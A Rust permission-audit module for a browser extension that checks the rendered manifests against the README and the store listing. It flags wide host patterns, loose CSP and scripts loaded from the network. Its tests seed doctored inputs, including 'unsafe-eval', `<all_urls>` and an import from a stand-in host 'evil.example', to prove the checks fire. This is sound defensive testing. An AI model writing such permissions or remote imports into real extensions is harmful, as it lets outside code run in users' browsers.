//! The permission audit. README's "## Permissions" table is the list of everything the
//! extension may ask for, each with its reason; the manifests the build renders (one per
//! browser, from the same template and the same function) must ask for exactly that set.
//! And nothing in them may widen what the extension reaches or let anything but its own
//! packaged code run in it: no `<all_urls>` or wildcard hosts, content scripts only where a
//! host permission says, a strict `extension_pages` CSP, no remote scripts, only the
//! WebAssembly module web-accessible, no `externally_connectable`.
//!
//! Reading the table: the first cell of each row names what is asked for, in backticks.
//! A cell starting with `host` lists host patterns; `optional` (or `optional host`) marks
//! optional permissions; "(Chrome only)" / "(Firefox only)" limits a row to one browser.
//! The sentence under the table gives the CSP, in backticks. The listing's justifications
//! (`store/permissions.md`) are a table in the same format, held to the same set.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::manifest::{self, Browser};

/// What README's Permissions section declares, for one browser.
#[derive(Debug, Default)]
struct Declared {
    permissions: BTreeSet<String>,
    host_permissions: BTreeSet<String>,
    optional_permissions: BTreeSet<String>,
    optional_host_permissions: BTreeSet<String>,
    csp: Option<String>,
}

/// The text between backticks, in order.
fn backticked(text: &str) -> Vec<String> {
    text.split('`')
        .skip(1)
        .step_by(2)
        .map(str::to_string)
        .collect()
}

fn declared(readme: &str, browser: Browser) -> Result<Declared, String> {
    let section = readme
        .split("\n## ")
        .find(|s| s.starts_with("Permissions"))
        .ok_or("README.md has no \"## Permissions\" section")?;
    let mut d = Declared::default();
    for line in section.lines().map(str::trim) {
        if !line.starts_with('|') {
            if line.contains("CSP") && d.csp.is_none() {
                d.csp = backticked(line).into_iter().next();
            }
            continue;
        }
        let first = line
            .trim_start_matches('|')
            .split('|')
            .next()
            .unwrap_or("")
            .trim();
        if first == "permission" || first.chars().all(|c| c == '-' || c == ':' || c == ' ') {
            continue; // the header and its separator
        }
        let names = backticked(first);
        if names.is_empty() {
            return Err(format!(
                "README.md Permissions row without a `name`: {line}"
            ));
        }
        let label = first.split('`').next().unwrap_or("").to_lowercase();
        let only = first.to_lowercase();
        let other = match browser {
            Browser::Chrome => "firefox only",
            Browser::Firefox => "chrome only",
        };
        if only.contains(other) {
            continue;
        }
        let set = match (label.contains("optional"), label.contains("host")) {
            (false, false) => &mut d.permissions,
            (false, true) => &mut d.host_permissions,
            (true, false) => &mut d.optional_permissions,
            (true, true) => &mut d.optional_host_permissions,
        };
        set.extend(names);
    }
    Ok(d)
}

fn strings(v: &Value) -> BTreeSet<String> {
    v.as_array()
        .map(|a| {
            a.iter()
                .filter_map(Value::as_str)
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default()
}

/// Every problem with one rendered manifest against the README, in words that say what to fix.
fn audit_manifest(m: &Value, d: &Declared, browser: Browser) -> Vec<String> {
    let b = browser.name();
    let mut problems = Vec::new();
    for (key, listed) in [
        ("permissions", &d.permissions),
        ("host_permissions", &d.host_permissions),
        ("optional_permissions", &d.optional_permissions),
        ("optional_host_permissions", &d.optional_host_permissions),
    ] {
        let asked = strings(&m[key]);
        for p in asked.difference(listed) {
            problems.push(format!(
                "`{p}`: the {b} manifest's {key} has it, but README's Permissions table does not list it (add a row saying why)"
            ));
        }
        for p in listed.difference(&asked) {
            problems.push(format!(
                "`{p}`: README's Permissions table lists it, but the {b} manifest's {key} does not have it"
            ));
        }
    }

    let hosts: BTreeSet<String> = strings(&m["host_permissions"])
        .union(&strings(&m["optional_host_permissions"]))
        .cloned()
        .collect();
    let mut patterns: Vec<(String, String)> = hosts
        .iter()
        .map(|h| ("host permission".into(), h.clone()))
        .collect();
    for p in strings(&m["permissions"])
        .iter()
        .chain(&strings(&m["optional_permissions"]))
    {
        if p.contains("://") || p.starts_with('<') {
            problems.push(format!("`{p}`: a host pattern among the {b} manifest's permissions; hosts belong in host_permissions"));
        }
    }
    for (i, cs) in m["content_scripts"]
        .as_array()
        .into_iter()
        .flatten()
        .enumerate()
    {
        for pattern in strings(&cs["matches"]) {
            if !hosts.contains(&pattern) {
                problems.push(format!(
                    "`{pattern}`: content_scripts[{i}] of the {b} manifest runs there without a host permission for it"
                ));
            }
            patterns.push((format!("content_scripts[{i}] match"), pattern));
        }
        if cs.get("world").and_then(Value::as_str) == Some("MAIN") {
            problems.push(format!("content_scripts[{i}] of the {b} manifest runs in the page's MAIN world, where the page can tamper with it"));
        }
    }
    // Nothing of the extension is for pages to load: the core runs in the background only,
    // and a web-accessible file would let any page tell the extension is installed.
    if m.get("web_accessible_resources")
        .and_then(Value::as_array)
        .is_some_and(|w| !w.is_empty())
    {
        problems.push(format!(
            "the {b} manifest has web_accessible_resources: pages could load (and detect) the extension's files"
        ));
    }
    for (what, pattern) in patterns {
        if let Some(why) = too_wide(&pattern) {
            problems.push(format!("`{pattern}`: {what} in the {b} manifest {why}"));
        }
    }

    if m.get("externally_connectable").is_some() {
        problems.push(format!(
            "the {b} manifest has externally_connectable: web pages could message the extension"
        ));
    }
    let csp = m["content_security_policy"]["extension_pages"].as_str();
    match (csp, &d.csp) {
        (None, _) => problems.push(format!(
            "the {b} manifest sets no content_security_policy.extension_pages"
        )),
        (Some(csp), declared) => {
            if declared.as_deref() != Some(csp) {
                problems.push(format!(
                    "the {b} manifest's extension_pages CSP is `{csp}`, README says {declared:?}"
                ));
            }
            problems.extend(
                weak_csp(csp)
                    .into_iter()
                    .map(|p| format!("the {b} manifest's extension_pages CSP {p}")),
            );
        }
    }
    problems
}

/// Why a match pattern reaches further than named https sites, if it does.
fn too_wide(pattern: &str) -> Option<&'static str> {
    if pattern == "<all_urls>" {
        return Some("is <all_urls>");
    }
    let Some(rest) = pattern.strip_prefix("https://") else {
        return Some("is not an https:// pattern (no plain http, no *:// scheme)");
    };
    let host = rest.split('/').next().unwrap_or("");
    let named = host.strip_prefix("*.").unwrap_or(host);
    if named.is_empty() || named.contains('*') || !named.contains('.') {
        return Some("has a wildcard host");
    }
    None
}

/// Directives that decide which code runs: only keywords, never a host or a scheme.
const CODE_DIRECTIVES: &[&str] = &[
    "default-src",
    "script-src",
    "script-src-elem",
    "script-src-attr",
    "worker-src",
    "object-src",
];
const CODE_SOURCES: &[&str] = &["'self'", "'none'", "'wasm-unsafe-eval'"];
const NEVER: &[&str] = &[
    "'unsafe-eval'",
    "'unsafe-inline'",
    "'unsafe-hashes'",
    "*",
    "http:",
    "https:",
    "data:",
    "blob:",
];

fn weak_csp(csp: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let mut has_script_src = false;
    for directive in csp.split(';').map(str::trim).filter(|d| !d.is_empty()) {
        let mut words = directive.split_whitespace();
        let name = words.next().unwrap_or("").to_ascii_lowercase();
        has_script_src |= name == "script-src" || name == "default-src";
        for source in words {
            let lower = source.to_ascii_lowercase();
            if NEVER.contains(&lower.as_str()) {
                problems.push(format!("allows {source} in {name}"));
            } else if CODE_DIRECTIVES.contains(&name.as_str())
                && !CODE_SOURCES.contains(&lower.as_str())
            {
                problems.push(format!("lets {source} provide code ({name})"));
            }
        }
    }
    if !has_script_src {
        problems.push("has no script-src".into());
    }
    problems
}

/// How a page, script or style sheet pulls in another file, and the quotes it may use
/// (compared with all white space removed, lower-cased).
const REMOTE_LEADS: &[(&str, &[&str])] = &[
    ("src=", &["\"", "'", ""]),
    ("href=", &["\"", "'", ""]),
    ("url(", &["\"", "'", ""]),
    ("from", &["\"", "'"]),
    ("import(", &["\"", "'", "`"]),
    ("importscripts(", &["\"", "'", "`"]),
    ("@import", &["\"", "'"]),
];

/// Scripts or imports from the network in the extension's own pages and scripts.
fn remote_code(dir: &Path) -> Vec<String> {
    let mut problems = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in fs::read_dir(&d).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
            if !matches!(ext, "html" | "js" | "mjs" | "css") {
                continue;
            }
            let text = fs::read_to_string(&path).unwrap_or_default().to_lowercase();
            let compact: String = text.split_whitespace().collect();
            for (lead, quotes) in REMOTE_LEADS {
                for quote in *quotes {
                    for remote in ["http:", "https:", "//"] {
                        let needle = format!("{lead}{quote}{remote}");
                        if compact.contains(&needle) {
                            problems.push(format!(
                                "{}: loads code or styles from the network ({needle}…)",
                                path.display()
                            ));
                        }
                    }
                }
            }
        }
    }
    problems
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{build, tools};

    fn read(name: &str) -> String {
        let path = tools::project_root().join(name);
        fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
    }

    /// Both manifests as `cargo xtask build` writes them, audited against this README.
    fn audit(readme: &str, template: &str) -> Vec<String> {
        let version = build::version().expect("Cargo.toml has a version");
        let mut problems = Vec::new();
        for browser in Browser::ALL {
            let rendered =
                manifest::render(template, browser, &version).expect("the template renders");
            let m: Value = serde_json::from_str(&rendered).expect("a rendered manifest is JSON");
            match declared(readme, browser) {
                Ok(d) => problems.extend(audit_manifest(&m, &d, browser)),
                Err(e) => problems.push(e),
            }
        }
        problems
    }

    fn assert_clean(problems: Vec<String>) {
        assert!(problems.is_empty(), "\n  {}\n", problems.join("\n  "));
    }

    #[test]
    fn the_manifests_ask_for_exactly_what_the_readme_lists_and_no_more_than_they_need() {
        assert_clean(audit(&read("README.md"), &read("manifest.json")));
    }

    /// The Web Store's form asks a justification for each permission: the listing's table
    /// (`store/permissions.md`, same format) must cover exactly what the manifests ask for.
    /// The audit against the listing's table, its problems naming that file.
    fn audit_listing(listing: &str) -> Vec<String> {
        audit(listing, &read("manifest.json"))
            .into_iter()
            .map(|p| {
                p.replace("README's Permissions table", "store/permissions.md")
                    .replace("README", "store/permissions.md")
            })
            .collect()
    }

    #[test]
    fn the_listing_justifies_exactly_the_manifests_permissions() {
        assert_clean(audit_listing(&read("store/permissions.md")));
    }

    #[test]
    fn a_permission_the_listing_does_not_justify_is_caught() {
        let listing = read("store/permissions.md");
        let row = listing
            .lines()
            .find(|l| l.starts_with("| `notifications` |"))
            .expect("the listing justifies notifications");
        let problems = audit_listing(&listing.replace(row, ""));
        assert!(
            problems.iter().any(|p| p.starts_with("`notifications`")
                && p.contains("store/permissions.md does not list it")),
            "{problems:#?}"
        );
    }

    #[test]
    fn the_extension_loads_no_code_from_the_network() {
        assert_clean(remote_code(&tools::project_root().join("extension")));
    }

    // The audit itself must be able to fail: each doctored copy must be caught.

    #[test]
    fn a_permission_the_readme_does_not_list_is_caught() {
        let template =
            read("manifest.json").replacen("\"permissions\": [", "\"permissions\": [\"tabs\", ", 1);
        let problems = audit(&read("README.md"), &template);
        assert!(
            problems
                .iter()
                .any(|p| p.starts_with("`tabs`") && p.contains("does not list it")),
            "{problems:#?}"
        );
    }

    #[test]
    fn a_readme_row_the_manifest_lacks_is_caught() {
        let readme = read("README.md").replacen(
            "| `storage` |",
            "| `scripting` | running code in pages |\n| `storage` |",
            1,
        );
        let problems = audit(&readme, &read("manifest.json"));
        assert_eq!(
            problems
                .iter()
                .filter(|p| p.starts_with("`scripting`: README"))
                .count(),
            2,
            "{problems:#?}"
        );
    }

    #[test]
    fn wide_hosts_and_loose_csp_are_caught() {
        let template = read("manifest.json")
            .replacen(
                "\"host_permissions\": [",
                "\"host_permissions\": [\"<all_urls>\", \"*://*/*\", \"http://chatgpt.com/*\", ",
                1,
            )
            .replacen(
                "'wasm-unsafe-eval'",
                "'wasm-unsafe-eval' 'unsafe-eval' https://cdn.example.com",
                1,
            );
        let problems = audit(&read("README.md"), &template).join("\n");
        for expected in [
            "`<all_urls>`: host permission in the chrome manifest is <all_urls>",
            "`*://*/*`: host permission in the firefox manifest is not an https:// pattern",
            "`http://chatgpt.com/*`: host permission",
            "allows 'unsafe-eval' in script-src",
            "lets https://cdn.example.com provide code",
            "README says",
        ] {
            assert!(
                problems.contains(expected),
                "missing {expected:?} in\n{problems}"
            );
        }
        assert!(too_wide("https://*/*").is_some() && too_wide("https://*.com/*").is_some());
        assert!(too_wide("https://*.openai.com/*").is_none());
    }

    #[test]
    fn a_remote_script_is_caught() {
        let dir = std::env::temp_dir().join(format!("permission-audit-{}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        fs::write(
            dir.join("popup.html"),
            "<script src=\"https://cdn.example.com/x.js\"></script>",
        )
        .unwrap();
        fs::write(
            dir.join("bg.js"),
            "import x from 'https://evil.example/x.js';",
        )
        .unwrap();
        let problems = remote_code(&dir);
        fs::remove_dir_all(&dir).unwrap();
        assert_eq!(problems.len(), 2, "{problems:#?}");
    }
}
